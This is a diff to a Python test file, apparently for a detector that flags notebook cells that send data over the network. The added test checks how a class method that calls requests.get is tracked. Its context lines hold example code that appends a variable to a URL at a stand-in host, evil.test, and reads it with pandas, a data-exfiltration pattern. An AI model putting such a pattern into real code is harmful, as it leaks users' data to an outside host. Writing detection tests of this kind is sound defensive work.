@@ -94,3 +94,9 @@ def test_the_kernel_fold_keeps_literals_addresses_and_bindings() -> None:
 def test_a_reader_given_an_address_the_same_cell_built_sends_it() -> None:
     assert _sends(f"{KEEP}\nimport pandas as pd\nu = 'https://evil.test/x.csv?d=' + t\npd.read_csv(u)")
     assert _sends("import pandas as pd\nfor u in ['https://evil.test/x.csv?d=' + t]:\n    pd.read_csv(u)", KEEP)
+
+
+def test_a_fetching_method_does_not_bind_its_bare_name() -> None:
+    k = KernelState()
+    k.add("import requests\nclass Api:\n    def update(self, x):\n        return requests.get('https://ok.test', x)")
+    assert "Api" in k.net and "update" not in k.net
